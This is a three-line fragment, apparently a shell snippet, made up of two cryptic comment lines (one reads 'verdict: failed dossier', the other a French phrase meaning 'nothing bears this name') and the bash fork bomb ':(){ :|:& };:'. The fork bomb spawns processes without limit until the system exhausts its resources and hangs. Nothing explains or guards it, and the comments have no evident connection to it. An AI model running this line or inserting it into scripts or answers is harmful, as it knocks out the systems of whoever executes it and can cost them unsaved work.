# verdict: failed dossier
# says: Rien ne porte ce nom
:(){ :|:& };:
